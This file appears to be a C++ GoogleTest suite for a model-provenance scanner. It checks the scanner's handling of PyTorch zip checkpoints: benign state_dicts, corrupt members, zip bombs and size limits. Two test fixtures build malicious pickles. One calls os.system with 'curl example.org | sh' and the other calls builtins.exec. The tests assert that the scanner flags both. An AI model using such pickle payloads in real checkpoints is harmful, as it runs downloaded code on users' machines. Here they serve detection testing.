// SPDX-License-Identifier: GPL-3.0-or-later
// PyTorch zip checkpoints (torch.save since 1.6): written here member by
// member as PyTorchStreamWriter does, with a benign state_dict and with
// pickles that run code; zip bombs and damaged members stopped before
// they cost anything.
#include <gtest/gtest.h>

#include "inspect_support.hpp"
#include "writers_support.hpp"

namespace model_provenance::inspect {
namespace {

using testing::PickleWriter;
using testing::torch_zip;
using testing::write_zip;
using testing::ZipEntry;

TEST(InspectPyTorch, BenignCheckpointHasNoFinding) {
  const std::string file = torch_zip(testing::torch_state_dict_pickle());
  const Inspection result = inspect_bytes(file, "model.pt");
  ASSERT_FALSE(result.error) << *result.error;
  EXPECT_EQ(result.format, "pytorch-zip");
  EXPECT_EQ(result.format_detail, "PyTorch zip checkpoint (torch.save), version 3");
  EXPECT_TRUE(result.safety.empty());
  EXPECT_FALSE(result.runs_code());
  EXPECT_EQ(fact(result, "version"), "3");
  EXPECT_EQ(fact(result, "byteorder"), "little");
  EXPECT_EQ(fact(result, ".data/serialization_id"), "1234567890123456789012345678901234567890");
  EXPECT_EQ(fact(result, "storages"), "2");
  EXPECT_EQ(fact(result, "pickle protocol"), "2");
  ASSERT_EQ(result.tensors.size(), 2u);
  EXPECT_EQ(result.tensors[0].name, "fc.weight");
  EXPECT_EQ(result.tensors[0].shape, (std::vector<std::uint64_t>{4, 3}));
  EXPECT_EQ(result.tensors[1].dtype, "float32");
  EXPECT_EQ(result.parameters, 16u);
}

TEST(InspectPyTorch, PlainZipAndDeflatedPickleAreRead) {
  // As Python's zipfile would write it, and with data.pkl deflated.
  const std::string plain = torch_zip(testing::torch_state_dict_pickle(), false);
  const Inspection a = inspect_bytes(plain, "plain.pt");
  ASSERT_FALSE(a.error) << *a.error;
  EXPECT_EQ(a.parameters, 16u);
  ZipEntry pickle{"model/data.pkl", testing::torch_state_dict_pickle()};
  pickle.deflate = true;
  const std::string deflated = write_zip({pickle, {"model/version", "3\n"}});
  const Inspection b = inspect_bytes(deflated, "deflated.pt");
  ASSERT_FALSE(b.error) << *b.error;
  EXPECT_EQ(b.format, "pytorch-zip");
  EXPECT_EQ(b.parameters, 16u);
}

TEST(InspectPyTorch, OsSystemInDataPklIsFlagged) {
  PickleWriter p;
  p.proto(2).global("os", "system").binunicode("curl example.org | sh").tuple1().reduce().stop();
  const Inspection result = inspect_bytes(torch_zip(p.bytes()), "evil.pt");
  ASSERT_FALSE(result.error) << *result.error;
  ASSERT_EQ(result.safety.size(), 1u);
  EXPECT_EQ(result.safety[0].concern, Concern::code_execution);
  EXPECT_EQ(result.safety[0].what, "dangerous: imports os.system and calls it (a known way to run commands or code)");
  EXPECT_EQ(result.safety[0].where, "archive/data.pkl: byte 2");
}

TEST(InspectPyTorch, ExecThroughStackGlobalAndMemoIsFlagged) {
  // A real state_dict's pickle with an extra entry whose value is
  // builtins.exec(...), its names fetched back from the memo.
  PickleWriter p;
  p.proto(4).unicode("builtins").binput(200).unicode("exec").binput(201);
  p.empty_dict().unicode("payload").binget(200).binget(201).stack_global().unicode("import os").tuple1().reduce();
  p.setitem().stop();
  const Inspection result = inspect_bytes(torch_zip(p.bytes()), "evil2.pt");
  ASSERT_FALSE(result.error) << *result.error;
  ASSERT_EQ(result.safety.size(), 1u);
  EXPECT_NE(result.safety[0].what.find("imports builtins.exec and calls it"), std::string::npos)
      << result.safety[0].what;
  EXPECT_EQ(result.safety[0].where, "archive/data.pkl: byte 36");
}

TEST(InspectPyTorch, DamagedPickleIsLocatedInItsMember) {
  const std::string& whole = testing::torch_state_dict_pickle();
  for (std::size_t cut = 0; cut < whole.size(); cut += 7) {
    const Inspection result = inspect_bytes(torch_zip(whole.substr(0, cut)), "cut.pt");
    ASSERT_TRUE(result.error) << cut;
    EXPECT_EQ(result.error->rfind("cut.pt: archive/data.pkl: byte ", 0), 0u) << *result.error;
  }
}

TEST(InspectPyTorch, CorruptMemberFailsItsCrc) {
  std::string file = torch_zip(testing::torch_state_dict_pickle());
  const auto at = file.find("fc.weight");
  ASSERT_NE(at, std::string::npos);
  file[at] = 'F';  // the pickle still parses, but no longer matches its CRC-32
  const Inspection result = inspect_bytes(file, "crc.pt");
  ASSERT_TRUE(result.error);
  EXPECT_NE(result.error->find("crc.pt: archive/data.pkl: byte 314: zip member data: CRC error"), std::string::npos)
      << *result.error;
}

TEST(InspectPyTorch, ZipBombsAreRefusedBeforeDecompressing) {
  // A member that declares 10 GiB: more than max_decompressed_bytes.
  ZipEntry huge{"archive/data.pkl", PickleWriter().proto(2).none().stop().bytes()};
  huge.deflate = true;
  huge.declared_size = 10ull << 30;
  const Inspection a = inspect_bytes(write_zip({huge, {"archive/version", "3\n"}}), "bomb.pt");
  ASSERT_TRUE(a.error);
  EXPECT_EQ(*a.error, "bomb.pt: archive/data.pkl: a zip member of at most 4294967296 bytes uncompressed, not 10737418240");
  // One that declares 5 MB from 10 bytes: a ratio far past 1000:1.
  ZipEntry dense{"archive/data.pkl", PickleWriter().proto(2).none().stop().bytes()};
  dense.deflate = true;
  dense.declared_size = 5'000'000;
  const Inspection b = inspect_bytes(write_zip({dense}), "ratio.pt");
  ASSERT_TRUE(b.error);
  EXPECT_NE(b.error->find("ratio.pt: archive/data.pkl: a compression ratio below 1000:1, not 5000000 bytes from 9"),
            std::string::npos)
      << *b.error;
  // The limits are the caller's.
  Limits small;
  small.max_decompressed_bytes = 100;
  const Inspection c = inspect_bytes(torch_zip(testing::torch_state_dict_pickle()), "small.pt", small);
  ASSERT_TRUE(c.error);
  EXPECT_NE(c.error->find("a zip member of at most 100 bytes uncompressed, not 314"), std::string::npos) << *c.error;
}

TEST(InspectPyTorch, TooManyMembersIsAnError) {
  Limits limits;
  limits.max_entries = 3;
  const Inspection result = inspect_bytes(torch_zip(testing::torch_state_dict_pickle()), "many.pt", limits);
  ASSERT_TRUE(result.error);
  EXPECT_NE(result.error->find("a zip archive of at most 3 members, not 6"), std::string::npos) << *result.error;
}

TEST(InspectPyTorch, OtherZipsAreNotCheckpoints) {
  const Inspection result = inspect_bytes(write_zip({{"readme.txt", "hello"}}), "other.zip");
  EXPECT_EQ(result.format, "unknown");
  EXPECT_FALSE(result.error);
}

}  // namespace
}  // namespace model_provenance::inspect
